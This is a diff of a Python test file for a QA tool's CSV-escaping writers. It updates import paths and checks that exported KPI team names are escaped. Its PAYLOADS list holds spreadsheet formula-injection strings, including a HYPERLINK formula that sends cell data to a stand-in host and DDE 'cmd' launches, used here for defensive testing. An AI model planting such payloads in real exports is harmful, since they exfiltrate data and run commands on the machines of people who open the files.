@@ -12,9 +12,9 @@ from sqlmodel import Session
 from typer.testing import CliRunner
 
 from qa.cli import app
-from qa.db import make_engine
 from qa.safecsv import SafeDictWriter, SafeWriter, escape_cell
-from qa.tables import Call
+from qa.store.engine import make_engine
+from qa.store.schema import Call
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
@@ -40,7 +40,7 @@ def test_writers_escape_every_cell_and_the_header() -> None:
 
 
 def test_kpis_csv_escapes_group_names(tmp_path: Path) -> None:
-    db = str(tmp_path / "qa.db")
+    db = str(tmp_path / "qa.store.engine")
     with Session(make_engine(db)) as s:
         for n, team in enumerate(PAYLOADS[:3]):
             s.add(Call(external_id=f"c{n}", started_at=datetime(2026, 11, 2, 9, n),
